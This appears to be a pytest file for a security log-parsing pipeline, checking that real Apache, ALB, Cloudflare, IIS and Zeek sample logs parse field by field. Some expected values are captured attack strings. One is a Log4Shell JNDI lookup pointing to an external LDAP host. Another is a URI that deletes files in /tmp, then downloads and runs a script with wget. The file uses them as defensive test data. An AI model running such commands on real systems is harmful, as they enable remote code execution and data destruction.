"""The real third-party samples parse exactly (see tests/data/formats/SOURCES.md)."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from pipeline.errors import PoisonRecord
from pipeline.events import HttpRequest
from pipeline.formats import FormatRouter
from pipeline.formats.settings import FormatSettings

from .conftest import DATA

REAL = DATA / "real"

# Layout of the Elastic IIS fixture, which has no #Fields line.
IIS_FIELDS = [
    *("date", "time", "s-ip", "cs-method", "cs-uri-stem", "cs-uri-query", "s-port"),
    *("cs-username", "c-ip", "cs(User-Agent)", "cs(Cookie)", "cs-host", "sc-status"),
    *("sc-substatus", "sc-win32-status", "time-taken"),
]


def lines(path: Path) -> list[bytes]:
    return [line for line in path.read_bytes().splitlines() if line]


def parse_all(fmt: str, path: Path, **settings: object) -> list[HttpRequest]:
    parser = FormatRouter(settings=FormatSettings(**settings)).parser(fmt)  # type: ignore[arg-type]
    out = [parser.parse(line) for line in lines(path)]
    return [r for r in out if r is not None]


def needs(path: Path) -> Path:
    if not path.exists():
        pytest.skip(f"{path.name} is not in this checkout")
    return path


_CLF_LINE = re.compile(r'(\S+) - - \[([^\]]+)\] "(.*)" (\d{3}) (\d+|-) "(.*)" "(.*)"')


def test_apache_combined_sample_round_trips_exactly() -> None:
    """Every field of every line comes back as logged (200 real lines)."""
    path = REAL / "elastic-examples" / "apache_logs.head200"
    requests = parse_all("combined", path)

    assert len(requests) == 200
    for line, request in zip(lines(path), requests, strict=True):
        ip, _when, req, status, size, referer, agent = _CLF_LINE.fullmatch(
            line.decode()
        ).groups()  # type: ignore[union-attr]
        assert request.peer_ip == ip
        assert (
            " ".join(p for p in (request.method, request.uri, request.protocol) if p)
            == req
        )
        assert request.status == int(status)
        assert request.bytes_sent == (None if size == "-" else int(size))
        assert (request.referer or "-") == referer
        assert (request.user_agent or "-") == agent
    assert requests[0].timestamp == 1431857103.0  # 17/May/2015:10:05:03 +0000


def test_whole_shared_apache_sample_parses_when_present() -> None:
    """The full 10,000-line file parses, but for its one line cut inside the
    User-Agent (line 8,899), which is dead-lettered as truncated."""
    root = os.environ.get("L4S_SHARED_DATA", "")
    candidates = [Path(root)] if root else []
    here = Path(__file__).resolve()
    candidates += [p / "shared" / "data" / "real" for p in here.parents]
    found = next(
        (c for c in candidates if (c / "elastic-examples/apache_logs").exists()), None
    )
    if found is None:
        pytest.skip("shared real-data folder not found")

    parser = FormatRouter().parser("combined")
    parsed, dead = 0, []
    for number, line in enumerate(lines(found / "elastic-examples" / "apache_logs"), 1):
        try:
            parsed += parser.parse(line) is not None
        except PoisonRecord as exc:
            dead.append((number, exc.reason))

    assert parsed == 9_999
    assert dead == [(8_899, "truncated")]


def test_crowdsec_payload_line_keeps_the_payload_in_the_user_agent() -> None:
    (request,) = parse_all(
        "combined", REAL / "crowdsec-hub/apache_log4j2_cve-2021-44228.log"
    )

    assert request.peer_ip == "192.168.1.3"
    assert request.timestamp == 1639146338.0  # 10/Dec/2021:14:25:38 +0000
    assert (request.method, request.uri, request.status, request.bytes_sent) == (
        "GET",
        "/",
        401,
        157,
    )
    assert request.user_agent is not None
    assert request.user_agent.startswith(
        "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/"
    )
    assert request.user_agent.endswith("==}")


def test_alb_sample_parses_exactly() -> None:
    first, second = parse_all(
        "alb", needs(REAL / "elastic-integrations/aws_alb_test-alb.prefix2.log")
    )

    assert first.timestamp == pytest.approx(1530570180.186641)
    assert (first.peer_ip, first.method, first.uri, first.protocol) == (
        "192.168.131.39",
        "GET",
        "http://www.example.com:80/",
        "HTTP/1.1",
    )
    assert (first.host, first.user_agent, first.status, first.bytes_sent) == (
        "www.example.com",
        "curl/7.46.0",
        200,
        366,
    )
    assert first.headers == (
        ("x-amzn-trace-id", "Root=1-58337262-36d228ad5d99923122bbe354"),
    )
    assert second.peer_ip == "67.43.156.20"
    assert second.uri == (
        "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;"
        "wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    )
    assert (second.user_agent, second.status, second.bytes_sent) == (
        "Hello, world",
        301,
        390,
    )


def test_cloudflare_sample_parses_exactly() -> None:
    (request,) = parse_all(
        "cloudflare",
        needs(
            REAL / "elastic-integrations/cloudflare_logpush_http_request.prefix1.log"
        ),
    )

    assert request.timestamp == 1653485126.0  # 2022-05-25T13:25:26Z
    assert (request.peer_ip, request.method, request.host) == (
        "175.16.199.0",
        "POST",
        "xyz.example.com",
    )
    assert request.uri == "/s/example/api/telemetry/v2/clusters/_stats"
    assert request.user_agent is not None and request.user_agent.startswith(
        "Mozilla/5.0 (Macintosh"
    )
    assert request.referer is not None and request.referer.startswith(
        "https://example.com/s/example/"
    )
    assert (request.status, request.bytes_sent) == (200, 981308)
    assert ("cookie", "key=value") in request.headers
    assert ("x-requested-with", "Request With") in request.headers


def test_iis_sample_parses_exactly_with_its_layout_from_config() -> None:
    path = needs(REAL / "elastic-integrations/iis_w3c_test-iis10-access.prefix3.log")
    first, second, third = parse_all("iis", path, w3c_fields=IIS_FIELDS)

    assert first.timestamp == 1652116204.0  # 2022-05-09 17:10:04 UTC
    assert (first.peer_ip, first.method, first.uri, first.status) == (
        "10.119.0.62",
        "POST",
        "/civault/Cryptology/Cryptology.svc",
        200,
    )
    assert (
        first.user_agent is not None and "MSIE 7.0; Windows NT 10.0" in first.user_agent
    )
    assert "+" not in first.user_agent
    assert (
        first.host
        == "[apcvwp00049.corp.acxiom.net](https://apcvwp00049.corp.acxiom.net/)"
    )
    assert (second.peer_ip, second.user_agent, second.host) == (
        "10.119.38.250",
        None,
        "itwebcert.acxiom.com",
    )
    assert third.timestamp == 1623367617.0
    assert (
        "cookie",
        "BIGipServerYAkgvoMHHYQAGkWEWadfsadfnyAqAere=27246369425.20480.0000",
    ) in third.headers


def test_iis_sample_parses_after_a_fields_directive_record() -> None:
    """The same lines parse when the layout arrives as a #Fields: record first."""
    path = needs(REAL / "elastic-integrations/iis_w3c_test-iis10-access.prefix3.log")
    parser = FormatRouter().parser("iis")

    assert parser.parse(("#Fields: " + " ".join(IIS_FIELDS)).encode()) is None
    assert [parser.parse(line).peer_ip for line in lines(path)] == [  # type: ignore[union-attr]
        "10.119.0.62",
        "10.119.38.250",
        "10.46.208.5",
    ]


def test_zeek_json_dotted_sample_parses_exactly() -> None:
    first, second = parse_all(
        "zeek_json",
        needs(REAL / "elastic-integrations/zeek_http_json_test-http.prefix2.log"),
    )

    assert first.timestamp == pytest.approx(1547687130.172944)
    assert (first.peer_ip, first.method, first.host) == (
        "10.178.98.102",
        "GET",
        "ocsp.apple.com",
    )
    assert first.uri is not None and first.uri.startswith(
        "/ocsp04-aaica02/ME4wTKADAgEAMEUw"
    )
    assert (first.user_agent, first.status, first.bytes_sent) == (
        "com.apple.trustd/2.0",
        200,
        3735,
    )
    assert ("user.name", "user") in first.ecs_fields
    assert (second.peer_ip, second.host, second.uri, second.user_agent) == (
        "10.20.8.197",
        "httpbin.org",
        "/ip",
        "curl/7.58.0",
    )


def test_zeek_json_underscore_sample_parses_exactly() -> None:
    (request,) = parse_all(
        "zeek_json", REAL / "otrf-security-datasets/apt29_day2_UTICA-A_http.log"
    )

    assert request.timestamp == pytest.approx(1588316963.457737)
    assert (request.peer_ip, request.method, request.host, request.uri) == (
        "10.0.1.5",
        "GET",
        "192.168.0.4",
        "/m",
    )
    assert (request.status, request.bytes_sent, request.protocol) == (
        200,
        1011864,
        "1.0",
    )


def test_zeek_tsv_sample_parses_exactly_with_masked_time_as_absent() -> None:
    """btest masks ``ts`` as X's: with ``bad_timestamp = "broker"`` it is absent."""
    path = REAL / "corelight-cve-2021-44228/http_log4j_notice_baseline.log"
    (request,) = parse_all("zeek_tsv", path, bad_timestamp="broker")

    assert request.timestamp is None
    assert (request.peer_ip, request.method, request.host, request.uri) == (
        "154.65.28.250",
        "GET",
        "24.14.233.177",
        "/",
    )
    assert (
        request.protocol,
        request.user_agent,
        request.status,
        request.bytes_sent,
    ) == ("1.1", "curl/7.58.0", 200, 550)


def test_zeek_tsv_masked_time_is_dead_lettered_when_so_configured() -> None:
    path = REAL / "corelight-cve-2021-44228/http_log4j_notice_baseline.log"
    settings = FormatSettings(bad_timestamp="dead_letter")
    parser = FormatRouter(settings=settings).parser("zeek_tsv")
    records = lines(path)
    for line in records[:-2]:
        assert parser.parse(line) is None
    with pytest.raises(PoisonRecord) as caught:
        parser.parse(records[-2])

    assert caught.value.reason == "bad_timestamp"


def test_zeek_notice_log_attempts_are_scanned_in_sub() -> None:
    """The 27 real attempts of the Corelight notice.log carry a payload in ``sub``."""
    path = (
        REAL / "corelight-cve-2021-44228/notice_2021-12-11-thru-13-server-activity.log"
    )
    requests = parse_all("zeek_tsv", path, bad_timestamp="broker")

    assert len(requests) == 27
    assert all(r.peer_ip for r in requests)
    assert all(
        any(n == "log.extra.sub" and "jndi" in v.lower() for n, v in r.fields())
        for r in requests
    )
    assert requests[0].peer_ip == "45.137.21.9"
